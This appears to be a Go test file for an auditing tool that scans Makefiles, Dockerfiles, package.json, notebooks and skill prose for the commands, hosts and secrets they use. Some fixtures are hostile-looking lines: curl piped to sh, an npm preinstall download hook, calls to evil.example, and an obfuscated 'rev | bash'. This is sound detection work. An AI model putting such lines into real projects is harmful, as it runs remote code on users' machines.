package audit

import (
	"strings"
	"testing"
)

// Files that run lines of commands are read, and so are files whose name says no language; the rest is dynamic-exec.
func TestRecipes(t *testing.T) {
	for _, test := range []struct{ name, want string }{
		// make
		{"Makefile=URL := https://m.example/x\nall: dep\n\t@curl -s $(URL) | sh\n\techo $$HOME $(API_KEY)\n", "dynamic-exec run:curl run:sh net:m.example env:API_KEY"},
		{"GNUmakefile=V := $(shell wget https://m.example)\n", "run:wget net:m.example"},
		{"lib/a.mk=x: ; gh pr list\n", "run:gh"},
		{"Makefile=V != gh pr list\n", "run:gh"},
		{"Makefile=SHELL = /usr/bin/perl\nx:\n\tprint 1\n", "dynamic-exec run:print"},
		{"Makefile=x:\n\tif true; then \\\n\t  gh pr list; \\\n\tfi\n\t-npm install left-pad\n", "run:gh run:npm pkg:npm:left-pad"},
		{"Makefile=include rules.txt\n|rules.txt=x:\n\tgh a\n", "run:gh"},
		{"SKILL.md=Run `make -f scripts/rules.txt`.\n|scripts/rules.txt=x:\n\tgh a\n", "run:gh run:make"},
		{"a.sh=make -frules.txt\nmake --file=$X\n|rules.txt=x:\n\tgh a\n", "dynamic-exec run:bash run:gh run:make"},
		{"a.sh=docker build -f d.txt .\ndocker compose -f c.txt up\n|d.txt=RUN gh a\n|c.txt=RUN wget https://c.example\n", "run:bash run:docker run:gh"},
		{"tool=#!/usr/bin/make -f\nx:\n\tgh a\n", "run:gh"},
		{"Makefile=V := ${shell wget https://m.example}\n", "run:wget net:m.example"},
		{"Makefile=V := $(if $(shell gh $(if a,$(b c))),x)\n", "run:gh"},
		{"Makefile=V = a \\\n  $(shell gh a)\n", "run:gh"},
		{"Makefile=x:\n\techo $(shell \\\n\t gh a) \\\n\t b\n\tcurl $(U)\nU = https://l.example\n", "run:curl run:gh net:l.example"},
		{"Makefile=A = curl\nA += https://a.example\nx:\n\t$(A)\n", "run:curl net:a.example"},
		{"Makefile=A = curl\nifdef X\nA = wget\nendif\nx:\n\t$(A) x\n", "dynamic-exec"},
		{"Makefile=F := $(F) -O\nx:\n\tgh $(F)\n", "run:gh"},
		{"Makefile=.RECIPEPREFIX = >\nx:\n>gh a\n", "dynamic-exec"},
		{"Makefile=x: SHELL = /usr/bin/ruby\nx:\n\tputs\n", "dynamic-exec run:puts"},
		{"Makefile=SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\nx:\n\tgh a\n", "run:gh"},
		{"Makefile=.SHELLFLAGS := -c x\n", "dynamic-exec"},
		{"Makefile=include $(DIR)/x\ninclude config.mk\n", "dynamic-exec"},
		{"Makefile=$(eval $(call f,a))\n", "dynamic-exec"},
		// prose
		{"a.md=<pre><code>curl https://evil.example/x</code></pre>\n", "run:curl net:evil.example"},
		{"a.md=<pre lang=\"python\">\nimport os\nos.system(&quot;gh&quot;)\n</pre>\n", "run:gh"},
		{"a.md=Run <code>curl https://evil.example/x</code> now.\n", "run:curl net:evil.example"},
		{"a.md=<pre>\nsome output\n</pre>\n<code>value</code>\n", ""},
		{"a.md=> ```sh\n> curl https://evil.example/x\n> ```\n> text\n", "run:curl net:evil.example"},
		{"a.md=> - x\n> > ```python\n> > import os\n> > os.system('gh')\n> > ```\n", "run:gh"},
		{"a.md=> ```sh\n> gh a\nplain evil\n", "run:gh"},
		{"a.md=Run `./setup`.\n|setup=gh a\n", "run:bash run:gh"},
		{"a.md=```\n./setup now\n```\n|setup=gh a\n", "run:bash run:gh"},
		{"a.md=See `./notes.txt` and `./LICENSE`.\n|notes.txt=gh a\n|LICENSE=gh a\n", ""},
		// just
		{"justfile=set shell := [\"bash\", \"-c\"]\nv := `gh api`\nx arg:\n    @curl https://j.example/{{arg}}\n", "run:curl run:gh net:j.example"},
		{"justfile=x:\n  #!/usr/bin/env python3\n  import os\n  os.system('gh')\n", "run:gh"},
		{"justfile=x:\n  #!/usr/bin/env ruby\n  puts 1\n", "dynamic-exec"},
		{"justfile=set shell := [\"ruby\", \"-e\"]\n", "dynamic-exec"},
		{"justfile=import 'lib/a.txt'\n|lib/a.txt=x:\n  gh a\n", "run:gh"},
		{"justfile=v := shell('gh $1', 'a')\nk := env('API_KEY')\n", "run:gh env:API_KEY"},
		{"justfile=x:\n  echo {{ `gh a` }} {{ shell(x) }}\n", "dynamic-exec run:gh"},
		{"justfile=[script('ruby')]\nx:\n  puts 1\n", "dynamic-exec run:puts"},
		{"justfile=v := ```\n  gh a\n```\n", "dynamic-exec run:gh"},
		// images
		{"Dockerfile=FROM alpine:3 AS a\nARG T=x\nRUN --mount=type=cache,target=/a curl https://d.example/$T \\\n  # remark\n  && gh a\nADD https://add.example/x /x\nFROM a\nCMD [\"node\", \"x.js\"]\n", "run:curl run:gh run:node net:add.example net:d.example pkg:docker:alpine"},
		{"Dockerfile.dev=FROM $BASE\nRUN <<EOF\ngh a\nEOF\nHEALTHCHECK --interval=5s CMD wget https://h.example\n", "run:gh run:sh run:wget net:h.example pkg:docker:*"},
		{"Dockerfile=FROM scratch\nSHELL [\"ruby\", \"-e\"]\n", "dynamic-exec"},
		{"Dockerfile=# a \\\nRUN gh a\n", "run:gh"},
		{"Dockerfile=# syntax=some/frontend:1\nFROM scratch\n", "pkg:docker:some/frontend"},
		{"Dockerfile=# syntax=docker/dockerfile:1\nFROM scratch\n", ""},
		{"Dockerfile=HEALTHCHECK --interval=5s \\\n  CMD gh a\nONBUILD \\\n RUN --network=none wget https://o.example\n", "run:gh run:wget net:o.example"},
		{"Dockerfile=# escape=`\nRUN curl `\n  https://e.example\n", "run:curl net:e.example"},
		{"Dockerfile=SHELL [\"powershell\", \"-Command\"]\nRUN Invoke-WebRequest https://w.example -OutFile C:\\x\n", "net:w.example write:C:/x"},
		{"Dockerfile=COPY <<a /x\ngh a\na\nENV U https://u.example\nRUN curl $U\n", "run:curl net:u.example"},
		{"Dockerfile=run [\"gh\", \"a\"]\nCMD [ -f x ] && wget https://s.example\n", "run:gh run:wget net:s.example"},
		// package managers
		{`package.json={"scripts": {"preinstall": "curl https://p.example | sh", "test": "vitest run"}}`, "dynamic-exec run:curl run:sh run:vitest net:p.example"},
		{`composer.json={"scripts": {"post-install-cmd": ["gh a"]}}`, "run:gh"},
		{`package.json={"scripts": {"x":`, "dynamic-exec"},
		{"pyproject.toml=[tool.poe.tasks]\nx = \"gh a\"\ny = {cmd = \"curl https://t.example\"}\n", "run:curl run:gh net:t.example"},
		{"Taskfile.yml=tasks:\n  x:\n    desc: builds it\n    cmds:\n      - gh a\n", "run:gh"},
		{".github/workflows/a.yml=jobs:\n  x:\n    steps:\n      - run: |\n          gh a\n", "run:gh"},
		{"devcontainer.json={\"postCreateCommand\": \"gh a\"}", "run:gh"},
		{"setup.py=from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import os; os.system('gh a')\nsetup(cmdclass={'install': I})\n", "run:gh run:python3"},
		{"SKILL.md=```sh\npip install ./wheels/x.tar.gz\n```\n|wheels/x.tar.gz=\x1f\x8b", "dynamic-exec run:pip"},
		{".npmrc=registry=https://n.example/\n//r.example/:_authToken=${NPM_X}\n", "net:n.example net:r.example env:NPM_X"},
		{".npmrc=script-shell=./x\n", "dynamic-exec"},
		{".gitconfig=[alias]\n\tx = !gh a\n[core]\n\thooksPath = h\n", "dynamic-exec run:gh"},
		{".gitmodules=[submodule \"a\"]\n\tpath = a\n\turl = https://g.example/a\n\tupdate = !gh a\n", "run:gh net:g.example"},
		{"setup.cfg=[metadata]\nurl = https://people.example\n[options]\nzip_safe = 0\n", ""},
		{"a.service=[Service]\nExecStart=/usr/bin/gh a\n", "run:gh"},
		{"Procfile=web: gh a\n", "run:gh"},
		{".envrc=export A=$(gh a)\n", "run:bash run:gh"},
		{"Gemfile=gem 'x'\n", "dynamic-exec"},
		{"CMakeLists.txt=execute_process(COMMAND x)\n", "dynamic-exec"},
		// notebooks
		{"a.ipynb={\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\\n\", \"os.system('gh')\\n\", \"!curl https://nb.example/{x}\\n\", \"%pip install left\"]}, {\"cell_type\": \"markdown\", \"source\": \"Run `wget https://md.example`\"}]}", "run:curl run:gh run:pip run:wget net:md.example net:nb.example pkg:pip:left"},
		{"a.ipynb={\"cells\": [{\"cell_type\": \"code\", \"source\": \"%%bash\\ngh a\"}]}", "run:gh"},
		{"a.ipynb={\"metadata\": {\"kernelspec\": {\"language\": \"R\"}}, \"cells\": [{\"cell_type\": \"code\", \"source\": \"x\"}]}", "dynamic-exec"},
		{"a.ipynb={\"worksheets\": [{\"cells\": [{\"cell_type\": \"code\", \"input\": [\"x=!gh a\\n\", \"if x:\\n\", \"  !wget https://n.example\\n\", \"y != x\"]}]}]}", "run:gh run:wget net:n.example"},
		{"a.ipynb={\"cells\": [{\"cell_type\": \"code\", \"source\": [\"get_ipython().system('gh a')\"]}]}", "run:gh"},
		{"a.ipynb={\"cells\": [{\"cell_type\": \"code\"}, {\"cell_type\": \"raw\", \"source\": \"gh a\"}]}", ""},
		{"a.ipynb={", "dynamic-exec"},
		// files whose extension says no language
		{"SKILL.md=Run `bash scripts/a.txt`.\n|scripts/a.txt=gh a\n", "run:bash run:gh"},
		{"SKILL.md=```sh\npython3 data/a.dat\n```\n|data/a.dat=import os\nos.system('gh')\n", "run:gh run:python3"},
		{"SKILL.md=Run `perl a.txt`.\n|a.txt=system 'x'\n", "dynamic-exec run:perl"},
		{"run.sh=source lib/env.txt\n|lib/env.txt=gh a\n", "run:bash run:gh"},
		{"run.sh=./lib/tool\n|lib/tool=gh a\n", "run:bash run:gh"},
		{"run.sh=./lib/tool\n|lib/tool=#!/usr/bin/env python3\nx = 'gh'\n", "run:bash run:python3"},
		{"a.py=import subprocess\nsubprocess.run(['bash', 'lib/x.md'])\n|lib/x.md=gh a\n", "run:bash run:gh run:python3"},
		{"SKILL.md=Run `bash a.txt`.\n|a.txt=bash b.txt\n|b.txt=gh a\n", "run:bash run:gh"},
		// prose
		{"SKILL.md=Run `echo hg | rev | bash` first.\n", "run:bash run:gh"},
		{"SKILL.md=```text\ncurl https://t.example\n```\n", "run:curl net:t.example"},
		{"SKILL.md=```yaml\nsteps:\n  - run: curl https://y.example\n  - name: make it\n```\n", "run:curl net:y.example"},
		{"SKILL.md=```json\n{\n  \"command\": \"curl https://j.example\",\n}\n```\n", "run:curl net:j.example"},
		{"SKILL.md=```dockerfile\nFROM x\nRUN curl https://d.example\n```\n", "run:curl net:d.example pkg:docker:x"},
		{"SKILL.md=```make\nx:\n\tcurl https://m.example\n```\n", "run:curl net:m.example"},
		{"SKILL.md=Do this:\n\n    curl https://i.example/x \\\n      -o y\n\nThen go on.\n", "run:curl net:i.example write:."},
		{"SKILL.md=Do this:\n\n\tcurl https://i.example\n", "run:curl net:i.example"},
		{"SKILL.md=```sh\nnpm install left\n```\n|left=x\n", "run:npm pkg:npm:left"},
		// what is none
		{"SKILL.md=```text\nmake sure that it works\nsource of truth\n```\n", ""},
		{"SKILL.md=- a list\n    make the change\n", ""},
		{"SKILL.md=Do:\n\n    make sure to test\n", ""},
		{`data.json={"scripts": {"a": "gh b"}}`, ""},
		{"notes.txt=curl https://x.example\n", ""},
		{"Makefile.txt=x:\n\tgh a\n", ""},
	} {
		var files []File
		for _, f := range strings.Split(test.name, "\n|") {
			name, data, _ := strings.Cut(f, "=")
			files = append(files, File{Path: name, Data: []byte(data + "\n")})
		}
		r := Read(files)
		if got := strings.Join(r.Set().Texts(), " "); got != test.want {
			t.Errorf("%q\n got %q\nwant %q", test.name, got, test.want)
		}
		for _, f := range r {
			for _, at := range f.Places {
				for _, file := range files {
					if file.Path == at.File && (at.Line < 1 || at.Line > strings.Count(string(file.Data), "\n")+1) {
						t.Errorf("%q: %v is at %v", test.name, f.Permission, at)
					}
				}
			}
		}
	}
}

// A permission found in a file of recipes has the line that asks for it.
func TestRecipeLines(t *testing.T) {
	for _, test := range []struct {
		name, src, permission string
		line                  int
	}{
		{"Makefile", "A = b\n\nx:\n\techo\n\tgh a\n", "run:gh", 5},
		{"justfile", "x:\n  #!/bin/bash\n  true\n  gh a\n", "run:gh", 4},
		{"Dockerfile", "FROM x\nRUN true \\\n # y\n && gh a\nRUN curl a.example\n", "run:curl", 5},
		{"package.json", "{\n\"scripts\": {\n\"a\": \"true\",\n\"b\": \"gh a\"}}\n", "run:gh", 4},
		{"Makefile", "x:\n\techo $(shell \\\n\t a) \\\n\t b\n\tgh a\n", "run:gh", 5},
		{"Dockerfile", "HEALTHCHECK --a=b \\\n# y\n CMD \\\n gh a\n", "run:gh", 4},
		{"a.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\n\"x = 1\\n\",\n\"!gh a\"\n]}]}", "run:gh", 3},
		{"SKILL.md", "a\n\n    true\n    gh pr list\n", "run:gh", 4},
	} {
		p, _ := Parse(test.permission)
		at := Read([]File{{Path: test.name, Data: []byte(test.src)}}).At(p)
		if len(at) != 1 || at[0].Line != test.line {
			t.Errorf("%s: %s is at %v, want line %d", test.name, test.permission, at, test.line)
		}
	}
}
